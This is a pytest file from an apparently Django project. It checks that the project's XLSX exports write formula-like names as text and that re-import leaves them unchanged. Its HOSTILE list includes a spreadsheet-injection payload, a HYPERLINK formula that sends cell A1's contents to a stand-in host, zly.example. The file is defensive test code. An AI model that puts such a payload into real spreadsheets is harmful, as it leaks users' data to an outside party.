"""Issue 13, item 7: a value starting with = + - @ (or a tab/CR) is text in every XLSX export,
never a live formula, and reads back unchanged on re-import."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from spojka.compliance.overview import overview_rows, overview_xlsx
from spojka.cooperation.models import TerritorialUnit
from spojka.plans import xlsx as plan_xlsx
from spojka.plans.models import PriorityArea
from spojka.plans.selectors import plan_with_tree
from spojka.plans.tests.factories import make_plan
from spojka.training import xlsx as training_xlsx
from spojka.training.tests.helpers import attend, make_event, make_person

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://zly.example/?"&A1;"klikni")', "+420 123", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1"]


def _no_formula(content: bytes) -> list:
    """Every cell of the workbook; fails if any is a formula."""
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def test_participants_export_writes_hostile_names_as_text_and_re_import_keeps_them(world):
    event = make_event(world.unit)
    people = [
        make_person(world.unit, "Jana", name, email=f"p{i}@example.org") for i, name in enumerate(HOSTILE)
    ]
    for person in people:
        attend(event, person)
    content = training_xlsx.participants_xlsx(event=event)
    assert set(HOSTILE) <= set(_no_formula(content))
    # Re-import: every row is found again (by its id) and accepted; nothing changes.
    outcome = training_xlsx.participants_import(event=event, data=content)
    assert outcome.errors == [] and (outcome.added, outcome.updated) == (0, 0)
    assert event.participations.count() == len(HOSTILE)
    assert sorted(p.last_name for p in world.unit.people.all()) == sorted(HOSTILE)


def test_plan_export_writes_hostile_names_as_text_and_re_import_keeps_them(world):
    plan = make_plan(world.unit)
    PriorityArea.objects.filter(plan=plan).update(name="=1+1")
    content = plan_xlsx.export_plan(plan_with_tree(world.unit, plan.pk))
    assert "=1+1" in _no_formula(content)
    imported = plan_xlsx.import_plan(unit=world.unit, content=content)
    assert imported.areas.get().name == "=1+1"


def test_agency_overview_writes_hostile_unit_names_as_text(world):
    TerritorialUnit.objects.filter(pk=world.unit.pk).update(name="@SUM(A1)")
    from django.utils import timezone

    rows = overview_rows(units=TerritorialUnit.objects.all(), today=timezone.localdate())
    assert "@SUM(A1)" in _no_formula(overview_xlsx(rows=rows))
